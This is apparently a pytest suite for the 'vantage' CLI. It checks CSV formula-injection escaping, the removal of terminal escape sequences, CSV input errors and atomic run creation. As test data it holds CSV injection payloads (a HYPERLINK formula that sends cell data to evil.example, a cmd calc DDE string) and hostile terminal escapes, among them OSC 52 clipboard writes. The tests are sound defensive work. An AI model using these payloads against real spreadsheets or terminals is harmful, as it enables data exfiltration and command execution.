"""Careless CLI use (issue 11, item 7), with the real ``vantage`` command as a subprocess and a real database: CSV
exports escape formula-like cells (OWASP), nothing printed carries a terminal escape sequence from the data,
malformed CSV (repeated header, unterminated quote) and unknown locations are input errors (exit 2, one line,
naming the line), and run creation is atomic with respect to its input (an interrupted load leaves no run; a run
left incomplete by a killed process is refused by resume and by workers)."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from services.orchestrator.api.server import run_to_proto
from services.orchestrator.app.inputs import CompanyCsv, InputError, rows_from_pairs
from services.orchestrator.app.jobs.research import ResearchOptions, create_research_run
from services.orchestrator.app.runs import Orchestrator
from services.orchestrator.clients import Clients
from services.orchestrator.domain import InputRow
from services.orchestrator.store import Store
from shared.config import Settings
from shared.errors import FailedPrecondition
from shared.grpc_client import Channels
from shared.text import csv_safe, printable

ROOT = Path(__file__).resolve().parents[2]

#: Cells a spreadsheet would evaluate (OWASP "CSV Injection" examples).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "=1+1"]
#: A run name and company names holding escape sequences: OSC 52 (clipboard write), clear screen, title set, bell,
#: 8-bit CSI, a bidi override.
EVIL_NAME = "\x1b]52;c;ZXZpbA==\x07evil run\x1b[2J\x1b]0;pwned\x07"
EVIL_COMPANY = "\x1b[31mRed\x1b[0m Corp\x9b1m\u202e"


def vantage(db_url: str, *args: str, env: dict[str, str] | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("VANTAGE_")}
    full = {**base, "VANTAGE_DATABASE_URL": db_url, "VANTAGE_SEARCH_ADDR": "127.0.0.1:1",
            "VANTAGE_INFERENCE_ADDR": "127.0.0.1:1", "VANTAGE_EXTRACTION_ADDR": "127.0.0.1:1", **(env or {})}
    return subprocess.run([sys.executable, "-m", "services.orchestrator.cli", *args], cwd=cwd, env=full,
                          capture_output=True, text=True, timeout=120)


def one_line_error(err: str) -> str:
    lines = [line for line in err.strip().splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in err, err
    assert lines[0].startswith("error: "), err
    return lines[0]


@contextlib.asynccontextmanager
async def orchestrator(store: Store) -> AsyncIterator[Orchestrator]:
    """An Orchestrator over ``store``; nothing here calls the services, so their addresses are never dialled."""
    settings = Settings()
    channels = Channels(settings)
    try:
        yield Orchestrator(store, Clients(channels, settings), settings)
    finally:
        await channels.close()


# --- exports -----------------------------------------------------------------------------------------------------


def test_csv_safe_follows_owasp() -> None:
    for cell in [*FORMULAS, "\tTab", "\rCR"]:
        assert csv_safe(cell) == "'" + cell
    for cell in ("Anthropic", "", " =x", "a=b", 0, -1.5, None, True):
        assert csv_safe(cell) == cell


async def test_export_writes_formula_like_cells_escaped_and_reads_back(sqlite_url: str) -> None:
    from services.orchestrator.store import open_store

    store = await open_store(sqlite_url)
    try:
        async with orchestrator(store) as orch:
            run, _ = await create_research_run(orch,
                rows_from_pairs([(f, "") for f in FORMULAS] + [("Plain Co", "plain.com")]),
                name="=cmd|' /C calc'!A0", options=ResearchOptions(model="gpt-4.1"),
            )
    finally:
        await store.close()
    r = vantage(sqlite_url, "export", run.id, "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert [row["company"] for row in rows] == ["'" + f for f in FORMULAS] + ["Plain Co"]
    assert rows[-1]["domain"] == "plain.com" and rows[0]["seq"] == "1"  # other cells untouched
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values() if v), row


# --- terminal output ---------------------------------------------------------------------------------------------


def test_printable_removes_escape_sequences_and_controls() -> None:
    assert printable(EVIL_NAME) == "evil run"
    assert printable(EVIL_COMPANY) == "Red Corp1m"
    assert printable("tab\tand\nnewline") == "tab\tand\nnewline"
    assert printable("\x1b]0;unterminated title") == "0;unterminated title"  # no text swallowed
    assert printable("Zürich 東京 — ok") == "Zürich 東京 — ok"


@pytest.mark.parametrize("force_color", [False, True])
async def test_cli_never_prints_escape_sequences_from_the_data(sqlite_url: str, force_color: bool) -> None:
    from services.orchestrator.store import open_store

    store = await open_store(sqlite_url)
    try:
        async with orchestrator(store) as orch:
            run, _ = await create_research_run(orch,
                rows_from_pairs([(EVIL_COMPANY, ""), ("Plain", "")]), name=EVIL_NAME,
                options=ResearchOptions(model="gpt-4.1"),
            )
    finally:
        await store.close()
    env = {"FORCE_COLOR": "1", "COLUMNS": "200"} if force_color else {}
    for args in (("runs",), ("status", run.id), ("report", run.id)):
        r = vantage(sqlite_url, *args, env=env)
        assert r.returncode == 0, (args, r.stderr)
        out = r.stdout + r.stderr
        for bad in ("]52;", "[2J", "]0;", "\x07", "\x9b", "\u202e", "[31m"):
            assert bad not in out, (args, bad, out[:500])
        if not force_color:
            assert "\x1b" not in out, args
        assert "evil run" in out or args[0] == "report", (args, out[:500])
        assert "Red Corp" in out or args[0] != "report", (args, out[:500])
    # Machine output keeps the data, as JSON escapes (no raw control character reaches the terminal).
    r = vantage(sqlite_url, "runs", "--output", "json", env=env)
    assert r.returncode == 0 and "\\u001b]52;" in r.stdout
    assert not any(ch in r.stdout for ch in ("\x1b", "\x07", "\x9b", "\u202e"))
    # A hostile run id typed by the user comes back clean too.
    r = vantage(sqlite_url, "status", "\x1b[2Jdeadbeef")
    assert r.returncode == 2 and "\x1b" not in r.stderr, r.stderr


# --- input errors ------------------------------------------------------------------------------------------------


def test_malformed_csv_is_an_input_error_naming_the_line() -> None:
    cases = [
        ("company,domain,company\nA,a.com,B\n", "line 1: duplicate column header: company"),
        ("\n\nName,Domain,DOMAIN\nA,a,b\n", "line 3: duplicate column header: domain"),
        ('company,"domain\nA,a.com\n', "line 1: not valid CSV: unterminated quoted field"),
        ('company\nA\n"B\nC\nD\n', "line 3: not valid CSV: unterminated quoted field"),
        ('company\nA\n"B"x\n', "line 3: not valid CSV: stray quote"),
    ]
    for text, message in cases:
        with pytest.raises(InputError) as e:
            list(CompanyCsv.from_text(text, "in.csv").rows())
        assert message in e.value.message, (text, e.value.message)
    # A quoted field may span lines (RFC 4180); its row is numbered by where it ends.
    rows = list(CompanyCsv.from_text('company,domain\n"Multi\nLine",m.com\nNext,n.com\n').rows())
    assert [(r.seq, r.company) for r in rows] == [(3, "Multi Line"), (4, "Next")]
    # From a server file (echo=False) nothing of the content is quoted.
    with pytest.raises(InputError) as e:
        CompanyCsv.from_text("token,SECRET_VALUE\n", "input_path", echo=False)
    assert "SECRET_VALUE" not in e.value.message and "token" not in e.value.message


def test_cli_input_errors_exit_2_with_one_line(tmp_path: Path, sqlite_url: str) -> None:
    dup = tmp_path / "dup.csv"
    dup.write_text("company,domain,Company\nAcme,acme.com,x\n")
    unterminated = tmp_path / "quote.csv"
    unterminated.write_text('company,"domain\nAcme,acme.com\n')
    questions = tmp_path / "q.txt"
    questions.write_text("Which GPU clouds are best?\n")
    for args, expect in (
        (("research", str(dup)), "line 1: duplicate column header: company"),
        (("research", str(unterminated)), "line 1: not valid CSV: unterminated quoted field"),
        (("evaluate", "--org", "Acme", "--questions", str(questions), "--locations", "US,XX"), "not 'XX'"),
        (("evaluate", "--org", "Acme", "--questions", str(questions), "--locations", "UK"), "ISO 3166-1"),
    ):
        r = vantage(sqlite_url, *args)
        assert r.returncode == 2, (args, r.returncode, r.stderr)
        assert expect in one_line_error(r.stderr), (args, r.stderr)
    assert not (tmp_path / "vantage.db").exists() or _runs(tmp_path / "vantage.db") == 0  # nothing stored


def _runs(path: Path) -> int:
    import sqlite3

    con = sqlite3.connect(path)
    try:
        return con.execute("select count(*) from runs").fetchone()[0]
    finally:
        con.close()


# --- atomic run creation -----------------------------------------------------------------------------------------


async def test_an_interrupted_load_leaves_no_run(store: Store) -> None:
    async with orchestrator(store) as orch:
        await _interrupted_load(store, orch)


async def _interrupted_load(store: Store, orch: Orchestrator) -> None:
    reached = asyncio.Event()

    def rows() -> Iterator[InputRow]:
        for n in range(1, 5001):
            if n == 1501:  # three batches stored: now the user presses Ctrl-C
                reached.set()
            yield InputRow(n + 1, f"Company {n}")

    task = asyncio.create_task(create_research_run(orch, rows(), name="big", options=ResearchOptions(model="m")))
    await reached.wait()
    assert not task.done()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert await store.list_runs(limit=10) == []  # no run, no half of one

    # An input error past the first batches: the same.
    def bad_rows() -> Iterator[InputRow]:
        yield from (InputRow(n + 1, f"Co {n}") for n in range(1200))
        raise InputError("in.csv: line 1202: not valid CSV: unterminated quoted field", field="input")

    with pytest.raises(InputError):
        await create_research_run(orch, bad_rows(), name="bad", options=ResearchOptions(model="m"))
    assert await store.list_runs(limit=10) == []
    run, report = await create_research_run(orch, iter([InputRow(2, "Whole")]), name="ok",
                                                 options=ResearchOptions(model="m"))
    assert report.queued == 1 and run.input_complete


async def test_an_incomplete_run_is_refused_by_resume_and_workers(store: Store, db_url: str) -> None:
    # What a process killed in the middle of a load leaves: a run marked incomplete with part of its items.
    run = await store.create_run(kind="research", name="killed", options={"model": "m"}, input_complete=False)
    await store.add_items(run.id, iter([InputRow(2, "A"), InputRow(3, "B")]))
    async with orchestrator(store) as orch:
        for call in (orch.prepare_resume(run.id), orch.prepare_retry(run.id), orch.begin(run.id, join=True)):
            with pytest.raises(FailedPrecondition, match="incomplete: loading its input was interrupted"):
                await call
        assert run_to_proto(await orch.summary(run.id)).input_incomplete  # GetRun / ListRuns say so
    assert await store.find_work(stale_seconds=0, limit=10) == []
    assert await store.find_work(stale_seconds=0, limit=10, only=run.id) == []
    assert await store.join_run(run.id, "someone", restart=True) is None
    if db_url.startswith("sqlite"):
        r = vantage(db_url, "resume", run.id)
        assert r.returncode == 2 and "incomplete" in one_line_error(r.stderr), r.stderr


# --- Ctrl-C during the load of a large CSV, for real -------------------------------------------------------------


@pytest.mark.integration
async def test_ctrl_c_while_loading_a_large_csv_leaves_no_run(services: Settings, tmp_path: Path) -> None:
    """The issue's scenario: SIGINT while `vantage research` stores a 150,000-row CSV. The CLI exits 130 and the
    database holds no run (before: a run with 28,000 of ~92,000 items that `vantage resume` would "finish")."""
    import signal
    import sqlite3
    import time

    big = tmp_path / "big.csv"
    big.write_text("company,domain\n" + "".join(f"Company {n:06d},c{n}.example.com\n" for n in range(150_000)))
    db = tmp_path / "cli.db"
    env = {k: v for k, v in os.environ.items() if not k.startswith("VANTAGE_")}
    env.update(VANTAGE_DATABASE_URL=f"sqlite:///{db}", VANTAGE_SEARCH_ADDR=services.addr("search"),
               VANTAGE_INFERENCE_ADDR=services.addr("inference"), VANTAGE_EXTRACTION_ADDR=services.addr("extraction"))
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "services.orchestrator.cli", "research", str(big), "--quiet", env=env, cwd=str(ROOT),
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)

    def items() -> int:
        try:
            con = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=1)
        except sqlite3.OperationalError:
            return 0
        try:
            return con.execute("select count(*) from run_items").fetchone()[0]
        except sqlite3.OperationalError:  # schema not created yet
            return 0
        finally:
            con.close()

    deadline = time.monotonic() + 120
    while (n := items()) == 0:
        assert proc.returncode is None and time.monotonic() < deadline, "the load never started"
        await asyncio.sleep(0.02)
    assert n < 150_000  # interrupted in the middle of the load
    proc.send_signal(signal.SIGINT)
    try:
        _out, err = await asyncio.wait_for(proc.communicate(), 120)
    except TimeoutError:
        proc.kill()  # never leave a 150,000-item research running behind a failed test
        await proc.wait()
        raise AssertionError(f"the CLI did not exit within 120 s of SIGINT ({items()} items stored)") from None
    assert proc.returncode == 130, err.decode()
    assert "Traceback" not in err.decode()
    con = sqlite3.connect(db)
    try:
        assert con.execute("select count(*) from runs").fetchone()[0] == 0
        assert con.execute("select count(*) from run_items").fetchone()[0] == 0
    finally:
        con.close()
